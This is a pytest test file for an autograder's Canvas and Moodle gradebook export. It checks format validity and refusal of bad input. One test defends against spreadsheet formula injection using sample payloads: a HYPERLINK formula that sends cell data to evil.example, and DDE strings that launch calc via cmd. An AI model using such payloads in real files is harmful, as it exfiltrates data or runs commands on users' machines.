"""grader/lms.py: Canvas and Moodle gradebook files from grades.csv and a roster, each checked against that LMS's
documented import format (the checkers below, each shown failing on a broken file), and every bad input refused by
name with nothing written."""
import csv
import io
import json
import re
from decimal import Decimal

import pytest

from grader import lms, report
from grader.assignment import load
from grader.contract import Task

NAME = "02_decode_scheduling"   # TODOs worth 2, 3, 3, 4 (12)
GRADES = [["student_id", "todo1", "todo2", "todo3", "todo4", "total", "max_total"],
          ["alice", "2", "3", "3", "4", "12", "12"],
          ["bob", "1", "1.5", "0", "2.66667", "5.17", "12"],
          ["carol", "0", "0", "0", "0", "0", "12"]]
CANVAS_ROSTER = [["student_id", "Student", "ID", "SIS User ID", "SIS Login ID", "Section"],
                 ["carol", "Carol Jones", "", "", "cjones", "Lab B"],
                 ["alice", "Smith, Alice", "101", "S-1", "asmith", "Lab A"],
                 ["bob", "Bob Lee", "102", "", "", "Lab A"]]
MOODLE_ROSTER = [["email", "student_id", "idnumber"],
                 ["alice@uni.example", "alice", "2024001"],
                 ["bob@uni.example", "bob", "2024002"],
                 ["carol@uni.example", "carol", "2024003"]]
SCORE = re.compile(r"-?\d+(\.\d{1,2})?")   # a dot, at most 2 places, no thousands separator, no exponent


def write(path, rows):
    with open(path, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(rows)
    return path


def read(path):
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


@pytest.fixture
def run(tmp_path):
    """A run's folder: grades.csv and the report.json that names its assignment."""
    out = tmp_path / "out"
    out.mkdir()
    write(out / "grades.csv", GRADES)
    (out / "report.json").write_text(json.dumps({"assignment": NAME}))
    return out


def make(run, lms_name, roster_rows=None, **options):
    roster_rows = roster_rows or (CANVAS_ROSTER if lms_name == "canvas" else MOODLE_ROSTER)
    roster = write(run.parent / "roster.csv", roster_rows)
    return lms.gradebook(lms_name, run / "grades.csv", roster, **options)


# --- the formats, as the LMSs document and read them --------------------------------------------------------------

def canvas_problems(text: str) -> list[str]:
    """What Canvas's gradebook import would not read as meant (gradebook_importer.rb; the import guide's columns)."""
    rows = list(csv.reader(io.StringIO(text)))
    problems = []
    head = rows[0]
    if head[:5] != ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]:
        problems.append(f"student columns {head[:5]}")
    titles = head[5:]
    if not titles:
        problems.append("no assignment column")
    for title in titles:
        if title in lms.CANVAS_RESERVED or any(w in title for w in lms.CANVAS_NOT_ASSIGNMENTS):
            problems.append(f"{title!r} is read as no assignment")
    if len(rows) < 2 or "Points Possible" not in rows[1][0]:
        problems.append("no Points Possible row")
    else:
        problems += [f"points {p!r}" for p in rows[1][5:] if not SCORE.fullmatch(p)]
    seen = set()
    for row in rows[2:]:
        if len(row) != len(head):
            problems.append(f"{len(row)} cells in {row}")
            continue
        if not any(row[1:4]):
            problems.append(f"no ID, SIS User ID or SIS Login ID in {row}")
        if row[1] and not row[1].isdigit():
            problems.append(f"ID {row[1]!r} is not numeric")
        key = tuple(row[1:4])
        problems += [f"{row[0]} twice"] if key in seen else []
        seen.add(key)
        problems += [f"score {s!r}" for s in row[5:] if not SCORE.fullmatch(s)]
    return problems


def moodle_problems(text: str, field: str) -> list[str]:
    """What Moodle's CSV grade import would not read as meant (Grade import docs; load_data.php, csvlib.class.php)."""
    lines = text.splitlines()
    rows = [line.split(",") for line in lines]     # as a reader that splits at the separator, without quotes, would
    if rows != list(csv.reader(io.StringIO(text))):
        return ["a cell needs CSV quoting"]
    problems = []
    if rows[0][0] != field or len(rows[0]) < 2:
        problems.append(f"header {rows[0]}")
    ids = [row[0] for row in rows[1:]]
    problems += [f"{len(r)} cells in {r}" for r in rows[1:] if len(r) != len(rows[0])]
    problems += ["an empty identity (Moodle skips the row)"] if not all(ids) else []
    problems += ["an identity twice"] if len(set(ids)) != len(ids) else []
    problems += [f"grade {s!r}" for row in rows[1:] for s in row[1:] if not SCORE.fullmatch(s)]
    return problems


def test_canvas_total(run):
    out = make(run, "canvas")
    assert out == run / "canvas-gradebook.csv"
    assert read(out) == [["Student", "ID", "SIS User ID", "SIS Login ID", "Section", NAME],
                         ["Points Possible", "", "", "", "", "12"],
                         ["Carol Jones", "", "", "cjones", "Lab B", "0"],          # roster order, roster identities
                         ["Smith, Alice", "101", "S-1", "asmith", "Lab A", "12"],
                         ["Bob Lee", "102", "", "", "Lab A", "5.17"]]
    assert canvas_problems(out.read_text()) == []


def test_canvas_per_todo(run):
    out = make(run, "canvas", per_todo=True)
    rows = read(out)
    assert rows[0][5:] == [f"{NAME} TODO {k}" for k in (1, 2, 3, 4)]
    assert rows[1][5:] == ["2", "3", "3", "4"] == [f"{t.points:g}" for t in load(NAME).todos]
    assert rows[4] == ["Bob Lee", "102", "", "", "Lab A", "1", "1.5", "0", "2.67"]   # 2.66667: 2 places, half up
    assert canvas_problems(out.read_text()) == []


def test_canvas_assignment_ids_and_title(run):
    out = make(run, "canvas", title="Decode scheduling", canvas_ids=["4711"])
    assert read(out)[0][5:] == ["Decode scheduling (4711)"]
    assert canvas_problems(out.read_text()) == []


@pytest.mark.parametrize("per_todo", [False, True])
@pytest.mark.parametrize("field", ["email", "idnumber"])
def test_moodle(run, field, per_todo):
    out = make(run, "moodle", moodle_field=field, per_todo=per_todo)
    rows = read(out)
    assert rows[0] == [field, *([f"{NAME} TODO {k}" for k in (1, 2, 3, 4)] if per_todo else [NAME])]
    who = {r[1]: r[0 if field == "email" else 2] for r in MOODLE_ROSTER[1:]}
    assert [r[0] for r in rows[1:]] == [who["alice"], who["bob"], who["carol"]]
    assert rows[2][1:] == (["1", "1.5", "0", "2.67"] if per_todo else ["5.17"])
    assert moodle_problems(out.read_text(), field) == []


def test_canvas_own_export_is_a_roster(run):
    """Canvas's gradebook export (its Points Possible row, score columns and all) with a student_id column added."""
    export = [[*CANVAS_ROSTER[0], "Quiz 1 (88)", "Current Score"], ["", "    Points Possible", "", "", "", "", "10", "(read only)"],
              *[[*row, "7", "70"] for row in CANVAS_ROSTER[1:]]]
    assert read(make(run, "canvas", export)) == read(make(run, "canvas"))


BROKEN_CANVAS = {
    "columns swapped": lambda t: t.replace("SIS User ID,SIS Login ID", "SIS Login ID,SIS User ID", 1),
    "no points row": lambda t: re.sub(r"^Points Possible.*\r?\n", "", t, flags=re.M),
    "decimal comma": lambda t: t.replace("5.17", '"5,17"'),
    "thousands separator": lambda t: t.replace("Lab A,12", 'Lab A,"1,200.5"'),
    "no identity": lambda t: t.replace("Bob Lee,102,", "Bob Lee,,"),
    "a row twice": lambda t: t + t.splitlines(keepends=True)[-1],
    "a cell too many": lambda t: t.replace("Lab B,0", "Lab B,0,1"),
    "a read-only title": lambda t: t.replace(f"Section,{NAME}", "Section,Final Score", 1),
}


@pytest.mark.parametrize("breakage", BROKEN_CANVAS)
def test_the_canvas_check_fails_on_a_broken_file(run, breakage):
    text = make(run, "canvas").read_text()
    assert canvas_problems(BROKEN_CANVAS[breakage](text)) != []


BROKEN_MOODLE = {
    "identity column not first": lambda t: t.replace(f"email,{NAME}", f"{NAME},email", 1),
    "decimal comma": lambda t: t.replace("5.17", '"5,17"'),
    "exponent": lambda t: t.replace("5.17", "5.17e0"),
    "empty identity": lambda t: t.replace("bob@uni.example", ""),
    "an identity twice": lambda t: t.replace("bob@uni.example", "alice@uni.example"),
    "a cell too few": lambda t: t.replace("carol@uni.example,0", "carol@uni.example"),
}


@pytest.mark.parametrize("breakage", BROKEN_MOODLE)
def test_the_moodle_check_fails_on_a_broken_file(run, breakage):
    text = make(run, "moodle").read_text()
    assert moodle_problems(BROKEN_MOODLE[breakage](text), "email") != []


def test_reads_what_make_autograde_writes(tmp_path, monkeypatch):
    """grades.csv and report.json as grader/report.py writes them (its columns read by name)."""
    monkeypatch.setattr(report.class_report, "write", lambda out, rep: None)
    tasks = [Task(t.task_id, t.answer_id, t.test_id, t.points, []) for t in load(NAME).todos]
    outcomes = [report.Outcome("alice", "graded", {"todo1": 2, "todo2": 3, "todo3": 1.5, "todo4": 4}),
                report.Outcome("bob", "bad", {"todo1": 0, "todo2": 0, "todo3": 0, "todo4": 0})]
    report.write_outputs(tmp_path, report.header(NAME, 0, "process", tasks), outcomes, 1.0)
    roster = write(tmp_path / "roster.csv", [["student_id", "email"], ["alice", "a@x"], ["bob", "b@x"]])
    for per_todo, expected in [(False, [["a@x", "10.5"], ["b@x", "0"]]), (True, [["a@x", "2", "3", "1.5", "4"], ["b@x", "0", "0", "0", "0"]])]:
        out = lms.gradebook("moodle", tmp_path / "grades.csv", roster, per_todo=per_todo)
        assert read(out)[1:] == expected


@pytest.mark.parametrize("text, shown", [("2.665", "2.67"), ("2.66499", "2.66"), ("0.005", "0.01"), ("0.004", "0"),
                                         ("12", "12"), ("12.50", "12.5"), ("1234.5", "1234.5"), ("1e-7", "0"), ("1E+1", "10")])
def test_numbers_are_two_places_half_up_with_a_dot(text, shown):
    assert lms.shown(Decimal(text)) == shown


def test_absent_students(run):
    roster = [*CANVAS_ROSTER, ["dave", "Dave", "104", "", "", "Lab B"]]
    with pytest.raises(SystemExit, match=r"1 roster student\(s\) have no row in .*grades.csv \(no submission\?\): dave"):
        make(run, "canvas", roster)
    assert not (run / "canvas-gradebook.csv").exists()
    assert read(make(run, "canvas", roster, absent="zero"))[-1] == ["Dave", "104", "", "", "Lab B", "0"]
    assert "Dave" not in make(run, "canvas", roster, absent="omit").read_text()


def edit(rows, row, column, value):
    rows = [list(r) for r in rows]
    rows[row][rows[0].index(column)] = value
    return rows


BAD = {  # name: (grades rows, roster rows, options, what the error says)
    "graded but not on the roster": (GRADES + [["invalid-0a1b", *["0"] * 5, "12"], ["zed", *["0"] * 5, "12"]], None, {},
                                     r"2 student\(s\) of .*grades.csv have no row in .*roster.csv, so their grade would reach no one: invalid-0a1b, zed"),
    "student twice in grades.csv": (GRADES + [GRADES[1]], None, {}, r"student_id on more than one row: alice"),
    "student twice in the roster": (GRADES, CANVAS_ROSTER + [CANVAS_ROSTER[1]], {}, r"roster.csv: student_id on more than one row: carol"),
    "one Canvas user for two students": (GRADES, edit(CANVAS_ROSTER, 3, "ID", "101"), {}, r"the same ID on more than one row: 101"),
    "one email for two students": (GRADES, edit(MOODLE_ROSTER, 2, "email", "alice@uni.example"), {"lms_name": "moodle"},
                                   r"the same email on more than one row: alice@uni.example"),
    "a column twice": ([GRADES[0] + ["total"], *[r + ["1"] for r in GRADES[1:]]], None, {}, r"the column total comes twice"),
    "no total column": ([["student_id", "todo1", "todo2", "todo3", "todo4", "max_total"], ["alice", "2", "3", "3", "4", "12"]],
                        None, {}, r"grades.csv has no column total"),
    "no TODO column (per TODO)": ([[c for j, c in enumerate(r) if j != 4] for r in GRADES], None, {"per_todo": True},
                                  r"grades.csv has no column todo4"),
    "no student_id column in the roster": (GRADES, [["Student", "ID", "Section"], ["Al", "1", ""]], {}, r"roster.csv has no column student_id"),
    "no Canvas id column": (GRADES, [["student_id", "Student", "Section"], ["alice", "Al", ""]], {},
                            r"none of Canvas's id columns ID, SIS User ID, SIS Login ID"),
    "no Moodle field column": (GRADES, MOODLE_ROSTER, {"lms_name": "moodle", "moodle_field": "username"},
                               r"roster.csv has no column username \(--moodle-field username\)"),
    "a roster row with no identity": (GRADES, edit(CANVAS_ROSTER, 1, "SIS Login ID", ""), {},
                                      r"student carol: no ID or SIS User ID or SIS Login ID"),
    "a Canvas ID that is a name": (GRADES, edit(CANVAS_ROSTER, 2, "ID", "asmith"), {}, r"ID 'asmith' is not Canvas's numeric user id"),
    "a decimal comma": (edit(GRADES, 2, "total", "5,17"), None, {}, r"student bob, total: '5,17' is not a number"),
    "an empty score": (edit(GRADES, 2, "todo2", ""), None, {"per_todo": True}, r"student bob, todo2: '' is not a number"),
    "nan": (edit(GRADES, 2, "total", "nan"), None, {}, r"'nan' is not a number"),
    "a negative total": (edit(edit(GRADES, 3, "total", "-1"), 3, "todo1", "0"), None, {}, r"student carol: total is -1, outside 0..12"),
    "above a TODO's points": (edit(edit(GRADES, 3, "todo1", "2.5"), 3, "total", "2.5"), None, {"per_todo": True},
                              r"student carol: todo1 is 2.5, outside 0..2"),
    "max_total of another assignment": (edit(GRADES, 1, "max_total", "10"), None, {}, r"max_total is 10, but the assignment's TODOs are worth 12"),
    "a late penalty (per TODO)": (edit(GRADES, 1, "total", "9.6"), None, {"per_todo": True},
                                  r"student alice: the TODOs sum to 12 but total is 9.6 \(a late penalty\?\)"),
    "another assignment named": (GRADES, None, {"assignment": "03_batch_scheduling"},
                                 r"--assignment 03_batch_scheduling, but .*report.json says these grades are of 02_decode_scheduling"),
    "a Canvas title read as no assignment": (GRADES, None, {"title": "Final Grade"}, r"Canvas reads a column titled 'Final Grade' as no assignment"),
    "a Canvas id that is not a number": (GRADES, None, {"canvas_ids": ["x1"]}, r"--canvas-id takes Canvas's numeric assignment ids"),
    "a Moodle cell with a comma": (GRADES, edit(MOODLE_ROSTER, 1, "email", "a,b@x"), {"lms_name": "moodle"},
                                   r"Moodle cell 'a,b@x' holds a comma"),
    "a short row": (GRADES + [["dave", "1"]], None, {}, r"grades.csv line 5: 2 cells, but the header has 7"),
    "a roster saved with ; (Excel in a decimal-comma locale)": (GRADES, [[";".join(r)] for r in CANVAS_ROSTER], {},
                                                                r"roster.csv is separated by ';'.*comma delimited"),
}


@pytest.mark.parametrize("case", BAD)
def test_bad_input_is_refused_by_name_and_nothing_is_written(run, case):
    grades, roster, options, said = BAD[case]
    write(run / "grades.csv", grades)
    options = dict(options)
    lms_name = options.pop("lms_name", "canvas")
    with pytest.raises(SystemExit, match=said):
        make(run, lms_name, roster, **options)
    assert not list(run.glob("*gradebook*"))


def test_without_report_json_the_assignment_must_be_named(run):
    (run / "report.json").unlink()
    with pytest.raises(SystemExit, match=r"no report.json beside .*grades.csv .*give --assignment"):
        make(run, "canvas")
    assert read(make(run, "canvas", assignment=NAME))[1][5] == "12"


def test_the_output_never_replaces_an_input(run):
    with pytest.raises(SystemExit, match="is an input file"):
        make(run, "canvas", out=run / "grades.csv")
    assert read(run / "grades.csv") == GRADES


def test_command_line(run, capsys):
    roster = write(run.parent / "roster.csv", MOODLE_ROSTER)
    assert lms.main(["moodle", str(run / "grades.csv"), str(roster), "--per-todo", "--out", str(run / "m.csv")]) == 0
    said = capsys.readouterr().out
    assert "moodle: 3 students ->" in said and "Map from 'email' to useremail" in said
    assert moodle_problems((run / "m.csv").read_text(), "email") == []


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A3,"Alice")', "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+1"]


def formula_cells(path) -> list[str]:
    """The cells of a written file a spreadsheet would run as a formula."""
    return [cell for row in read(path) for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_a_roster_cell_never_reaches_a_spreadsheet_as_a_formula(run):
    """Canvas's Student and Section cells came from the roster as they were: =HYPERLINK(...), @SUM(...) or
    -2+3+cmd|... ran in the spreadsheet an instructor opens the file in. They are written as text (a leading ');
    an id the LMS finds the student by, or a title, is refused instead (the quote would change what it matches)."""
    roster = [list(r) for r in CANVAS_ROSTER]
    for row, formula in zip(roster[1:], FORMULAS):
        row[1], row[5] = formula, formula    # Student, Section
    rows = read(make(run, "canvas", roster))
    assert formula_cells(run / "canvas-gradebook.csv") == []
    assert [r[0] for r in rows[2:]] == ["'" + f for f in FORMULAS[:3]] and rows[2][4] == "'" + FORMULAS[0]
    assert canvas_problems((run / "canvas-gradebook.csv").read_text()) == []
    for column in ("SIS User ID", "SIS Login ID"):
        with pytest.raises(SystemExit, match=f"student alice's {column} '=HYPERLINK.*a formula"):
            make(run, "canvas", edit(CANVAS_ROSTER, 2, column, FORMULAS[0]), out=run / "x.csv")
    with pytest.raises(SystemExit, match="the column title '@SUM.*a formula"):
        make(run, "canvas", title="@SUM(A1)", out=run / "x.csv")
    for field, formula in (("email", "=1+1@uni.example"), ("idnumber", "-2024001"), ("username", "@bob")):
        roster = [[*r, "username"] if i == 0 else [*r, r[1]] for i, r in enumerate(MOODLE_ROSTER)]
        with pytest.raises(SystemExit, match=f"student bob's {field} .*a formula"):
            make(run, "moodle", edit(roster, 2, field, formula), moodle_field=field, out=run / "x.csv")
    with pytest.raises(SystemExit, match="the column title .*a formula"):
        make(run, "moodle", title="=1+1", out=run / "x.csv")
    assert not (run / "x.csv").exists()
